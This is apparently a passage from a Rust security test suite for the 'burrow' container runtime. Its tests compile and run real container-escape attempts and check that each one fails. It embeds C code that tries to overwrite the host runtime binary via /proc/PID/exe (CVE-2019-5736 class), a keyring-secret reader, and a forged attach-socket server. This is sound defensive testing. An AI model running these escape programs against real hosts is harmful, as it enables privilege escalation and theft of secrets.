//! Container escapes and cross-user holes, each attacked for real as the unprivileged test user:
//! attack programs are C compiled static by the test (or busybox shell) and run inside the
//! container; the test then looks, as root, at what they reached on the host.
//!
//! - the burrow binary on the host cannot be rewritten, chmod'ed, tagged or re-timed through a
//!   container process's /proc/PID/exe (CVE-2019-5736 class): `exec`'d as `burrow-pause` after
//!   an upgrade, and as the container's PID 1;
//! - descriptors of the caller do not reach the container, its working directory or its monitor
//!   (CVE-2024-21626 class), while `--preserve-fds` still passes what it is asked to;
//! - the caller's session keyring is not the container's (run and exec);
//! - a run directory or attach socket that another user made is refused, not used;
//! - the store is closed to other users (and repaired with a warning when it is not);
//! - delegated host cgroup v1 files are read-only inside the container;
//! - `exec` works into an `--init` container.

mod common;

use std::ffi::CString;
use std::io::{BufRead, BufReader, Read};
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output, Stdio};
use std::time::{Duration, Instant};

use common::*;
use sha2::{Digest, Sha256};

// ---------------------------------------------------------------------------------------------
// Attack programs
// ---------------------------------------------------------------------------------------------

/// `pwn TARGET [kill|stay] [SECONDS]`: opens TARGET's /proc/PID/exe with O_PATH (TARGET is a pid,
/// or `pause` for the process whose argv[0] is burrow-pause), optionally SIGKILLs it, then
/// through /proc/self/fd/N tries chmod 04777, setxattr user.pwned, utimensat to time 0 and,
/// while the file is busy (ETXTBSY) for at most SECONDS, an open for writing and a write.
/// Prints one line per attempt.
const PWN_C: &str = r##"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static int find_paused(void) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] < '0' || e->d_name[0] > '9') continue;
        char path[300], buf[256];
        snprintf(path, sizeof path, "/proc/%s/cmdline", e->d_name);
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n <= 0) continue;
        buf[n] = 0;
        if (strcmp(buf, "burrow-pause") == 0) return atoi(e->d_name);
    }
    return -1;
}

static void report(const char *what, int rc) {
    printf("%s: %s\n", what, rc == 0 ? "ok" : strerror(errno));
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc < 2) return 2;
    int pid = strcmp(argv[1], "pause") == 0 ? find_paused() : atoi(argv[1]);
    int do_kill = argc > 2 && strcmp(argv[2], "kill") == 0;
    int seconds = argc > 3 ? atoi(argv[3]) : 10;
    if (pid <= 0) { printf("no target\n"); return 2; }
    char exe[64], link[4096], self[64];
    snprintf(exe, sizeof exe, "/proc/%d/exe", pid);
    ssize_t n = readlink(exe, link, sizeof link - 1);
    link[n > 0 ? n : 0] = 0;
    int fd = open(exe, O_PATH);
    if (fd < 0) { printf("open %s: %s\n", exe, strerror(errno)); return 2; }
    printf("target %d exe %s\n", pid, link);
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    if (do_kill) report("kill", kill(pid, SIGKILL));
    report("chmod", chmod(self, 04777));
    report("setxattr", setxattr(self, "user.pwned", "1", 1, 0));
    struct timespec zero[2] = {{0, 0}, {0, 0}};
    report("utimensat", utimensat(AT_FDCWD, self, zero, 0));
    struct timespec start, now;
    clock_gettime(CLOCK_MONOTONIC, &start);
    int w, busy = 0;
    for (;;) {
        w = open(self, O_WRONLY);
        if (w >= 0 || errno != ETXTBSY) break;
        busy++;
        clock_gettime(CLOCK_MONOTONIC, &now);
        if (now.tv_sec - start.tv_sec >= seconds) break;
        usleep(10000);
    }
    if (w < 0) { printf("write: open: %s (busy %d times)\n", strerror(errno), busy); return 0; }
    static const char msg[] = "#!/bin/sh\necho pwned by the container\n";
    ssize_t k = pwrite(w, msg, sizeof msg - 1, 0);
    printf("write: %s (busy %d times)\n", k == (ssize_t)(sizeof msg - 1) ? "ok" : strerror(errno), busy);
    return 0;
}
"##;

/// `keys LABEL`: prints `LABEL session=ID` (the session keyring this process sees) and either
/// `LABEL secret=PAYLOAD` of the user key `burrow-secret` found from it, or `LABEL search=ERROR`.
const KEYS_C: &str = r#"
#include <errno.h>
#include <linux/keyctl.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(int argc, char **argv) {
    const char *label = argc > 1 ? argv[1] : "?";
    long ses = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);
    if (ses < 0) printf("%s session=error:%s\n", label, strerror(errno));
    else printf("%s session=%ld\n", label, ses);
    long id = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", "burrow-secret", 0);
    if (id < 0) { printf("%s search=%s\n", label, strerror(errno)); return 0; }
    char buf[256];
    long n = syscall(SYS_keyctl, KEYCTL_READ, id, buf, sizeof buf - 1);
    if (n < 0) { printf("%s read=%s\n", label, strerror(errno)); return 0; }
    buf[n < (long)sizeof buf - 1 ? n : (long)sizeof buf - 1] = 0;
    printf("%s secret=%s\n", label, buf);
    return 0;
}
"#;

/// A directory readable by the test user, bound into containers read-only at /attack, with the
/// given C programs compiled static.
fn attack_dir(sb: &Sandbox, programs: &[(&str, &str)]) -> PathBuf {
    let dir = sb.dir.join("attack");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    for (name, source) in programs {
        let src = dir.join(format!("{name}.c"));
        std::fs::write(&src, source).unwrap();
        let out = Command::new("gcc")
            .args(["-static", "-O1", "-Wall", "-o"])
            .arg(dir.join(name))
            .arg(&src)
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "gcc {name}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        std::fs::set_permissions(dir.join(name), std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    dir
}

fn volume(host: &Path, inside: &str) -> String {
    format!("{}:{inside}:ro", host.display())
}

/// `-v` options that let the dynamically linked burrow run inside a busybox container: the
/// host's loader and C library, read-only. (An attacker picks an image that has a C library;
/// the fixtures are all busybox.)
fn host_libc_volumes() -> Vec<String> {
    ["/lib64", "/lib/x86_64-linux-gnu"]
        .iter()
        .flat_map(|inside| {
            let host = std::fs::canonicalize(inside).unwrap();
            ["-v".to_string(), volume(&host, inside)]
        })
        .collect()
}

// ---------------------------------------------------------------------------------------------
// Small helpers
// ---------------------------------------------------------------------------------------------

fn to_run(args: &[&str], output: Output) -> Run {
    Run {
        args: args.iter().map(|s| s.to_string()).collect(),
        output,
    }
}

/// Runs `program args` as `user` (not burrow), with a plain environment.
fn as_user(user: &TestUser, program: &str, args: &[&str]) -> Output {
    Command::new(program)
        .args(args)
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .env("LANG", "C.UTF-8")
        .current_dir("/")
        .stdin(Stdio::null())
        .uid(user.uid)
        .gid(user.gid)
        .output()
        .unwrap()
}

/// A child process killed and reaped when the test ends, however it ends.
struct ChildGuard(Child);

impl Drop for ChildGuard {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Waits for a child at most `timeout`; None if it is still running then.
fn wait_child(child: &mut Child, timeout: Duration) -> Option<std::process::ExitStatus> {
    let start = Instant::now();
    loop {
        if let Some(status) = child.try_wait().unwrap() {
            return Some(status);
        }
        if start.elapsed() > timeout {
            return None;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
}

/// The output of a child given at most `timeout` to end (killed then), and whether it ended.
fn output_within(mut child: Child, timeout: Duration) -> (Output, bool) {
    let ended = wait_child(&mut child, timeout);
    if ended.is_none() {
        let _ = child.kill();
    }
    let status = child.wait().unwrap();
    let stdout = read_all(child.stdout.take()).into_bytes();
    let stderr = read_all(child.stderr.take()).into_bytes();
    (
        Output {
            status,
            stdout,
            stderr,
        },
        ended.is_some(),
    )
}

fn read_all(stream: Option<impl Read>) -> String {
    let mut text = String::new();
    if let Some(mut s) = stream {
        let _ = s.read_to_string(&mut text);
    }
    text
}

/// The targets of a process's open descriptors, as root sees them.
fn descriptor_targets(pid: i64) -> Vec<PathBuf> {
    std::fs::read_dir(format!("/proc/{pid}/fd"))
        .map(|d| {
            d.flatten()
                .filter_map(|e| std::fs::read_link(e.path()).ok())
                .collect()
        })
        .unwrap_or_default()
}

fn cmdline_argv0(pid: &str) -> Option<Vec<u8>> {
    let raw = std::fs::read(format!("/proc/{pid}/cmdline")).ok()?;
    Some(raw.split(|b| *b == 0).next().unwrap_or_default().to_vec())
}

// ---------------------------------------------------------------------------------------------
// 1. The burrow binary on the host (CVE-2019-5736 class)
// ---------------------------------------------------------------------------------------------

/// burrow installed as the user's own file: `~/bin/burrow`, 0755, owned by the test user.
/// Installing again is an upgrade: a new file renamed over the old (a new inode).
fn install_own_burrow(sb: &Sandbox) -> PathBuf {
    let dir = sb.home.join("bin");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    let installed = dir.join("burrow");
    let staging = dir.join(".burrow.new");
    std::fs::copy(binary(), &staging).unwrap();
    std::fs::set_permissions(&staging, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::os::unix::fs::chown(&dir, Some(sb.user.uid), Some(sb.user.gid)).unwrap();
    std::os::unix::fs::chown(&staging, Some(sb.user.uid), Some(sb.user.gid)).unwrap();
    std::fs::rename(&staging, &installed).unwrap();
    installed
}

/// What an attacker could change about a file on the host.
#[derive(Debug, PartialEq, Eq)]
struct FileState {
    sha256: String,
    /// Octal, as ls and chmod say it.
    mode: String,
    mtime: (i64, i64),
    pwned_xattr: Option<Vec<u8>>,
}

impl FileState {
    fn of(path: &Path) -> FileState {
        let meta = std::fs::metadata(path).unwrap();
        let bytes = std::fs::read(path).unwrap();
        FileState {
            sha256: hex::encode(Sha256::digest(&bytes)),
            mode: format!("{:o}", meta.mode() & 0o7777),
            mtime: (meta.mtime(), meta.mtime_nsec()),
            pwned_xattr: user_xattr(path, "user.pwned"),
        }
    }
}

fn user_xattr(path: &Path, name: &str) -> Option<Vec<u8>> {
    let cpath = CString::new(path.as_os_str().as_bytes()).unwrap();
    let cname = CString::new(name).unwrap();
    let mut buf = vec![0u8; 256];
    // SAFETY: both strings are NUL-terminated and the buffer is as large as told.
    let n = unsafe {
        libc::getxattr(
            cpath.as_ptr(),
            cname.as_ptr(),
            buf.as_mut_ptr().cast(),
            buf.len(),
        )
    };
    if n < 0 {
        return None;
    }
    buf.truncate(n as usize);
    Some(buf)
}

/// The process of the container whose pid is `container_pid` that runs as `burrow-pause`.
fn paused_in_container(container_pid: i64) -> Option<i64> {
    let ns = std::fs::read_link(format!("/proc/{container_pid}/ns/pid")).ok()?;
    std::fs::read_dir("/proc").ok()?.flatten().find_map(|e| {
        let name = e.file_name().to_string_lossy().into_owned();
        let pid: i64 = name.parse().ok()?;
        (cmdline_argv0(&name)? == b"burrow-pause"
            && std::fs::read_link(format!("/proc/{pid}/ns/pid")).ok()? == ns)
            .then_some(pid)
    })
}

#[test]
fn an_upgraded_burrow_execd_into_a_container_cannot_be_overwritten_from_it() {
    let sb = sandbox_with_busybox();
    let attack = attack_dir(&sb, &[("pwn", PWN_C)]);
    let installed = install_own_burrow(&sb);
    let attack_volume = volume(&attack, "/attack");
    let libc = host_libc_volumes();
    let mut args = vec!["run", "-d", "--name", "c", "-v", &attack_volume];
    args.extend(libc.iter().map(String::as_str));
    args.extend(["busybox", "sleep", "1000"]);
    to_run(&args, sb.command_of(&installed, &args).output().unwrap()).assert_code(0);
    // The upgrade: a new inode at the installed path that no monitor holds busy.
    install_own_burrow(&sb);
    let before = FileState::of(&installed);
    sb.ok(&[
        "exec",
        "c",
        "sh",
        "-c",
        "mkdir -p /usr/local/bin && ln -s /proc/self/exe /usr/local/bin/burrow-pause",
    ]);
    // The exec'd process resolves the link to its own exe, the new burrow, and pauses.
    let mut paused = ChildGuard(
        sb.command_of(&installed, &["exec", "c", "burrow-pause"])
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let container_pid = sb.inspect("c")["State"]["Pid"].as_i64().unwrap();
    wait_for(
        "burrow-pause exec'd in the container",
        Duration::from_secs(30),
        || {
            if let Some(status) = paused.0.try_wait().unwrap() {
                panic!(
                    "exec c burrow-pause ended ({status}) before pausing: {}",
                    read_all(paused.0.stderr.take())
                );
            }
            paused_in_container(container_pid).is_some()
        },
    );
    // The attacker opens that process's exe, kills it (so no burrow runs the file any more)
    // and writes to it.
    let pwn = sb.run(&["exec", "c", "/attack/pwn", "pause", "kill", "10"]);
    let said = format!("{}{}", pwn.stdout(), pwn.stderr());
    assert!(
        said.contains("target "),
        "the attacker found no burrow-pause process: {said}"
    );
    assert_eq!(
        FileState::of(&installed),
        before,
        "the container changed burrow's binary on the host {}; the attacker said:\n{said}",
        installed.display()
    );
}

#[test]
fn burrow_as_a_containers_pid_1_cannot_be_changed_from_the_container() {
    let sb = sandbox_with_busybox();
    let attack = attack_dir(&sb, &[("pwn", PWN_C)]);
    let installed = install_own_burrow(&sb);
    let links = sb.dir.join("links");
    std::fs::create_dir_all(&links).unwrap();
    std::fs::set_permissions(&links, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::os::unix::fs::symlink("/proc/self/exe", links.join("burrow-pause")).unwrap();
    let before = FileState::of(&installed);
    // argv[0] must be exactly burrow-pause, so the entrypoint is found on PATH.
    let (attack_volume, links_volume) = (volume(&attack, "/attack"), volume(&links, "/x"));
    let libc = host_libc_volumes();
    let mut args = vec![
        "run",
        "-d",
        "--name",
        "p",
        "-v",
        &attack_volume,
        "-v",
        &links_volume,
    ];
    args.extend(libc.iter().map(String::as_str));
    args.extend([
        "-e",
        "PATH=/x:/usr/sbin:/usr/bin:/sbin:/bin",
        "--entrypoint",
        "burrow-pause",
        "busybox",
    ]);
    to_run(&args, sb.command_of(&installed, &args).output().unwrap()).assert_code(0);
    let pid1 = sb.inspect("p")["State"]["Pid"].as_i64().unwrap();
    assert_eq!(
        cmdline_argv0(&pid1.to_string()).as_deref(),
        Some(&b"burrow-pause"[..]),
        "the container's PID 1 is not burrow-pause"
    );
    let pwn = sb.run(&["exec", "p", "/attack/pwn", "1", "stay", "2"]);
    let said = format!("{}{}", pwn.stdout(), pwn.stderr());
    assert!(
        said.contains("target 1"),
        "the attacker found no PID 1: {said}"
    );
    assert_eq!(
        FileState::of(&installed),
        before,
        "the container changed burrow's binary on the host {} through /proc/1/exe; the attacker said:\n{said}",
        installed.display()
    );
}

// ---------------------------------------------------------------------------------------------
// 2. The caller's descriptors (CVE-2024-21626 class)
// ---------------------------------------------------------------------------------------------

const MARKER: &str = "host-marker-7c1d";

/// A host directory, readable by the test user, that holds the marker file.
fn caller_dir(sb: &Sandbox) -> PathBuf {
    let dir = sb.dir.join("caller-dir-5e2a");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::write(dir.join(MARKER), "from the host\n").unwrap();
    std::fs::set_permissions(dir.join(MARKER), std::fs::Permissions::from_mode(0o644)).unwrap();
    dir
}

/// Runs burrow as the test user with descriptor `fd` open read-only on `path`, as a careless
/// caller (a shell, a service manager) could leave it.
fn run_with_fd(sb: &Sandbox, fd: u32, path: &Path, args: &[&str]) -> Run {
    let script = format!("exec {fd}<\"$0\" || exit 99; exec \"$@\"");
    let mut all = vec![
        "-c",
        &script,
        path.to_str().unwrap(),
        binary().to_str().unwrap(),
    ];
    all.extend(args);
    to_run(args, sb.command_of("sh", &all).output().unwrap())
}

#[test]
fn a_callers_descriptor_does_not_reach_a_new_container() {
    let sb = sandbox_with_busybox();
    let dir = caller_dir(&sb);
    let ls = run_with_fd(
        &sb,
        7,
        &dir,
        &["run", "--rm", "busybox", "ls", "/proc/self/fd/7/"],
    );
    assert!(
        !ls.stdout().contains(MARKER),
        "the container listed the caller's directory through fd 7:\n{}{}",
        ls.stdout(),
        ls.stderr()
    );
    let pwd = run_with_fd(
        &sb,
        7,
        &dir,
        &["run", "--rm", "-w", "/proc/self/fd/7", "busybox", "pwd"],
    );
    assert!(
        matches!(pwd.code(), 125 | 126),
        "run -w /proc/self/fd/7 exited {} (want 125 or 126):\n{}{}",
        pwd.code(),
        pwd.stdout(),
        pwd.stderr()
    );
    let ls = run_with_fd(
        &sb,
        7,
        &dir,
        &["run", "--rm", "-w", "/proc/self/fd/7", "busybox", "ls"],
    );
    assert!(
        !ls.stdout().contains(MARKER) && matches!(ls.code(), 125 | 126),
        "run -w /proc/self/fd/7 started in the caller's directory (exit {}):\n{}{}",
        ls.code(),
        ls.stdout(),
        ls.stderr()
    );
}

#[test]
fn exec_does_not_start_in_a_callers_descriptor_but_preserve_fds_still_passes_one() {
    let sb = sandbox_with_busybox();
    let dir = caller_dir(&sb);
    sb.ok(&["run", "-d", "--name", "t", "busybox", "sleep", "1000"]);
    let ls = run_with_fd(&sb, 7, &dir, &["exec", "-w", "/proc/self/fd/7", "t", "ls"]);
    assert!(
        matches!(ls.code(), 125 | 126) && !ls.stdout().contains(MARKER),
        "exec -w /proc/self/fd/7 exited {} (want 125 or 126, no listing):\n{}{}",
        ls.code(),
        ls.stdout(),
        ls.stderr()
    );
    // Asked for, a descriptor still goes through.
    let passed = run_with_fd(
        &sb,
        3,
        &dir.join(MARKER),
        &["exec", "--preserve-fds", "1", "t", "cat", "/proc/self/fd/3"],
    );
    passed.assert_code(0);
    assert_eq!(passed.stdout(), "from the host\n");
}

#[test]
fn a_detached_container_and_its_monitor_hold_no_descriptor_of_the_caller() {
    let sb = sandbox_with_busybox();
    let dir = caller_dir(&sb);
    run_with_fd(
        &sb,
        7,
        &dir,
        &["run", "-d", "--name", "d", "busybox", "sleep", "1000"],
    )
    .assert_code(0);
    let name = dir.file_name().unwrap().to_str().unwrap();
    let fds = sb.ok(&["exec", "d", "ls", "-l", "/proc/1/fd"]).stdout();
    assert!(
        !fds.contains(name),
        "the container's process holds the caller's directory:\n{fds}"
    );
    let state = &sb.inspect("d")["State"];
    for (what, pid) in [
        ("container process", &state["Pid"]),
        ("monitor", &state["ConmonPid"]),
    ] {
        let pid = pid.as_i64().unwrap();
        assert!(pid > 0 && alive(pid), "no {what}: {state}");
        let targets = descriptor_targets(pid);
        assert!(
            !targets.iter().any(|t| t == &dir),
            "the {what} (pid {pid}) holds the caller's directory {}: {targets:?}",
            dir.display()
        );
    }
}

// ---------------------------------------------------------------------------------------------
// 3. The session keyring
// ---------------------------------------------------------------------------------------------

const SECRET: &str = "keyring-secret-93b4";

/// Runs `script` as the test user in a new session keyring that holds the user key
/// burrow-secret; the script gets the attack directory as $A and burrow as $B.
fn in_key_session(sb: &Sandbox, attack: &Path, script: &str) -> Run {
    let full = format!(
        "keyctl add user burrow-secret {SECRET} @s >/dev/null || exit 99; \"$A/keys\" host; {script}"
    );
    let mut cmd = sb.command_of("keyctl", &["session", "-", "sh", "-c", &full]);
    cmd.env("A", attack).env("B", binary());
    to_run(
        &["keyctl", "session", "-", "sh", "-c", &full],
        cmd.output().unwrap(),
    )
}

/// `label session=ID` and `label secret=...` lines of the keys program.
fn key_lines(out: &str, label: &str) -> (Option<String>, Option<String>) {
    let field = |name: &str| {
        out.lines()
            .find_map(|l| l.strip_prefix(&format!("{label} {name}=")))
            .map(str::to_string)
    };
    (field("session"), field("secret"))
}

fn assert_keyring_private(run: &Run, label: &str) {
    let out = run.stdout();
    let (host_session, host_secret) = key_lines(&out, "host");
    assert_eq!(
        host_secret.as_deref(),
        Some(SECRET),
        "the caller's session does not hold the key:\n{out}{}",
        run.stderr()
    );
    let (session, _) = key_lines(&out, label);
    assert!(
        session.is_some(),
        "the {label} did not report:\n{out}{}",
        run.stderr()
    );
    assert!(
        !out.contains(&format!("{label} secret=")),
        "the {label} read the caller's key:\n{out}"
    );
    assert_ne!(
        session, host_session,
        "the {label}'s session keyring is the caller's:\n{out}"
    );
}

#[test]
fn a_container_does_not_get_the_callers_session_keyring() {
    let sb = sandbox_with_busybox();
    let attack = attack_dir(&sb, &[("keys", KEYS_C)]);
    let run = in_key_session(
        &sb,
        &attack,
        "exec \"$B\" run --rm -v \"$A:/attack:ro\" busybox /attack/keys container",
    );
    run.assert_code(0);
    assert_keyring_private(&run, "container");
}

#[test]
fn exec_does_not_hand_the_callers_session_keyring_to_the_container() {
    let sb = sandbox_with_busybox();
    let attack = attack_dir(&sb, &[("keys", KEYS_C)]);
    let run = in_key_session(
        &sb,
        &attack,
        "\"$B\" run -d --name k -v \"$A:/attack:ro\" busybox sleep 1000 >/dev/null || exit 98; \
         \"$B\" exec k /attack/keys exec",
    );
    run.assert_code(0);
    assert_keyring_private(&run, "exec");
}

// ---------------------------------------------------------------------------------------------
// 4. Run directories and attach sockets of another user
// ---------------------------------------------------------------------------------------------

/// Makes `dir` and `dir/containers` as burrownosub would to lie in wait: its own, 0777.
fn plant_run_dir(dir: &Path) {
    let nosub = nosub_user();
    for d in [dir.to_path_buf(), dir.join("containers")] {
        std::fs::create_dir_all(&d).unwrap();
        std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o777)).unwrap();
        std::os::unix::fs::chown(&d, Some(nosub.uid), Some(nosub.gid)).unwrap();
    }
}

/// Sockets anywhere below `dir`.
fn sockets_below(dir: &Path) -> Vec<PathBuf> {
    let mut found = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).into_iter().flatten().flatten() {
            let Ok(t) = e.file_type() else { continue };
            if t.is_dir() {
                todo.push(e.path());
            } else if t.is_socket() {
                found.push(e.path());
            }
        }
    }
    found
}

/// `run` failed naming `named` and left no socket in `planted`.
fn assert_planted_run_dir_refused(run: &Run, planted: &Path, named: &Path) {
    let sockets = sockets_below(planted);
    assert!(
        sockets.is_empty(),
        "burrow put sockets in another user's directory: {sockets:?}\nstdout:\n{}stderr:\n{}",
        run.stdout(),
        run.stderr()
    );
    run.assert_error(125, &[named.to_str().unwrap()]);
}

#[test]
fn a_run_directory_that_another_user_made_under_tmpdir_is_refused() {
    let mut sb = sandbox_with_busybox();
    let tmp = sb.dir.join("tmp");
    std::fs::create_dir_all(&tmp).unwrap();
    std::fs::set_permissions(&tmp, std::fs::Permissions::from_mode(0o1777)).unwrap();
    let planted = tmp.join(format!("burrow-{}", sb.user.uid));
    plant_run_dir(&planted);
    sb.envs.push(("TMPDIR".into(), tmp.display().to_string()));
    let run = sb.run(&["run", "-d", "-i", "--name", "x", "busybox", "cat"]);
    assert_planted_run_dir_refused(&run, &planted, &planted);
}

/// The default run directory, /tmp/burrow-UID, made by another user first: shown to burrow
/// through a bind mount in a private mount namespace, so the real one (shared by every test)
/// is left alone.
#[test]
fn a_run_directory_that_another_user_made_at_the_default_path_is_refused() {
    let sb = sandbox_with_busybox();
    let user = sb.user;
    let default = PathBuf::from(format!("/tmp/burrow-{}", user.uid));
    if !default.exists() {
        // What burrow itself would make, so the bind below has a mount point.
        std::fs::create_dir_all(&default).unwrap();
        std::fs::set_permissions(&default, std::fs::Permissions::from_mode(0o700)).unwrap();
        std::os::unix::fs::chown(&default, Some(user.uid), Some(user.gid)).unwrap();
    }
    let planted = sb.dir.join("planted");
    plant_run_dir(&planted);
    let args = ["run", "-d", "-i", "--name", "x", "busybox", "cat"];
    let output = Command::new("unshare")
        .args(["--mount", "--propagation", "private", "--", "sh", "-c"])
        .arg(
            "mount --bind \"$0\" \"$1\" || exit 97; shift; \
             exec setpriv --reuid=\"$U\" --regid=\"$U_GID\" --clear-groups \"$@\"",
        )
        .arg(&planted)
        .arg(&default)
        .arg(binary())
        .args(args)
        .env_clear()
        .env("HOME", &sb.home)
        .env("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin")
        .env("LANG", "C.UTF-8")
        .env("USER", &user.name)
        .env("U", user.uid.to_string())
        .env("U_GID", user.gid.to_string())
        .current_dir(&sb.home)
        .stdin(Stdio::null())
        .output()
        .unwrap();
    // The error names the directory as burrow saw it.
    assert_planted_run_dir_refused(&to_run(&args, output), &planted, &default);
}

/// A fake monitor of burrownosub: a socket anyone may connect to that feeds each attach client
/// forged output and a forged exit code (42).
const FAKE_MONITOR_PY: &str = r#"
import os, socket, struct, sys
s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
s.bind(sys.argv[1])
os.chmod(sys.argv[1], 0o777)
s.listen(4)
print("listening", flush=True)
while True:
    c, _ = s.accept()
    print("accepted", flush=True)
    try:
        c.send(b"\x01forged-by-burrownosub\n")
        c.send(b"\x03" + struct.pack(">i", 42))
        while c.recv(65536):
            pass
    except OSError:
        pass
    c.close()
"#;

#[test]
fn attach_refuses_a_socket_served_by_another_user() {
    let sb = sandbox_with_busybox();
    let id = sb
        .ok(&["run", "-d", "-i", "--name", "x", "busybox", "cat"])
        .stdout()
        .trim()
        .to_string();
    let socket = PathBuf::from(format!(
        "/tmp/burrow-{}/containers/{id}/attach",
        sb.user.uid
    ));
    wait_for("the attach socket", Duration::from_secs(10), || {
        socket.exists()
    });
    // burrownosub serves a socket of its own...
    let nosub = nosub_user();
    let foreign = sb.dir.join("foreign");
    std::fs::create_dir_all(&foreign).unwrap();
    std::os::unix::fs::chown(&foreign, Some(nosub.uid), Some(nosub.gid)).unwrap();
    let fake = foreign.join("attach");
    let mut server = ChildGuard(
        Command::new("/usr/bin/python3")
            .args(["-c", FAKE_MONITOR_PY])
            .arg(&fake)
            .env_clear()
            .current_dir("/")
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .uid(nosub.uid)
            .gid(nosub.gid)
            .spawn()
            .unwrap(),
    );
    let mut lines = BufReader::new(server.0.stdout.take().unwrap()).lines();
    assert_eq!(lines.next().unwrap().unwrap(), "listening");
    // ...that takes the place of the monitor's (here root moves it; a run directory open to
    // others would let burrownosub do it).
    std::fs::rename(&fake, &socket).unwrap();
    let attach = sb
        .command(&["attach", "x"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let (output, ended) = output_within(attach, Duration::from_secs(30));
    let run = to_run(&["attach", "x"], output);
    assert!(
        ended,
        "attach to another user's socket still ran after 30 s:\n{}{}",
        run.stdout(),
        run.stderr()
    );
    assert!(
        !run.stdout().contains("forged"),
        "attach relayed another user's socket:\n{}{}",
        run.stdout(),
        run.stderr()
    );
    run.assert_error(125, &[]);
}

// ---------------------------------------------------------------------------------------------
// 5. The store
// ---------------------------------------------------------------------------------------------

/// burrow as the test user with umask 022 (Debian's), in a home that others may enter.
fn with_umask_022(sb: &Sandbox, args: &[&str]) -> Run {
    let mut all = vec![
        "-c",
        "umask 022; exec \"$@\"",
        "sh",
        binary().to_str().unwrap(),
    ];
    all.extend(args);
    to_run(args, sb.command_of("sh", &all).output().unwrap())
}

/// A path's permission bits in octal, as ls and chmod say them.
fn mode_of(path: &Path) -> String {
    format!("{:o}", std::fs::metadata(path).unwrap().mode() & 0o7777)
}

#[test]
fn the_store_and_container_records_are_closed_to_other_users() {
    let sb = Sandbox::new();
    std::fs::set_permissions(&sb.home, std::fs::Permissions::from_mode(0o755)).unwrap();
    with_umask_022(&sb, &["pull", &image_ref("busybox:latest")]).assert_code(0);
    let id = with_umask_022(
        &sb,
        &[
            "create",
            "--name",
            "s",
            "-e",
            "SECRET=hunter2",
            "busybox",
            "true",
        ],
    );
    id.assert_code(0);
    let id = id.stdout().trim().to_string();
    let root = sb.graph_root();
    assert_eq!(
        mode_of(&root),
        "700",
        "{} is open to other users",
        root.display()
    );
    // Every record of the container that holds the secret is closed to others (0600).
    let ctr = root.join("containers").join(&id);
    let mut holders = Vec::new();
    for dir in [ctr.clone(), ctr.join("userdata")] {
        for e in std::fs::read_dir(&dir).unwrap().flatten() {
            if e.file_type().unwrap().is_file()
                && std::fs::read(e.path())
                    .unwrap()
                    .windows(7)
                    .any(|w| w == b"hunter2")
            {
                holders.push((e.path(), mode_of(&e.path())));
            }
        }
    }
    assert!(
        !holders.is_empty(),
        "no record of the container holds its environment"
    );
    for (path, mode) in &holders {
        assert!(
            mode.ends_with('0'),
            "{} holds the secret and others may read it: mode {mode}",
            path.display()
        );
    }
    // Another user reaches nothing: not the record, not the list, not a layer.
    let nosub = nosub_user();
    let record = ctr.join("container.json");
    let layer_file = sb
        .layer_dirs()
        .into_iter()
        .find(|d| d.join("diff/bin").exists())
        .expect("a layer with /bin")
        .join("diff/bin/busybox");
    for (program, target) in [
        ("cat", &record),
        ("ls", &root),
        ("ls", &root.join("layers")),
        ("cat", &layer_file),
    ] {
        let out = as_user(nosub, program, &[target.to_str().unwrap()]);
        assert!(
            !out.status.success()
                && String::from_utf8_lossy(&out.stderr).contains("Permission denied"),
            "burrownosub's `{program} {}` was not denied: {}{}",
            target.display(),
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
    }
}

#[test]
fn a_store_root_open_to_others_is_repaired_with_one_warning() {
    let sb = Sandbox::new();
    let root = sb.graph_root();
    std::fs::create_dir_all(&root).unwrap();
    std::fs::set_permissions(&root, std::fs::Permissions::from_mode(0o755)).unwrap();
    sb.chown_home();
    let first = with_umask_022(&sb, &["images"]);
    first.assert_code(0);
    assert_eq!(mode_of(&root), "700", "{} was not repaired", root.display());
    let named = |run: &Run| {
        run.stderr()
            .lines()
            .filter(|l| l.contains(root.to_str().unwrap()))
            .count()
    };
    assert_eq!(
        named(&first),
        1,
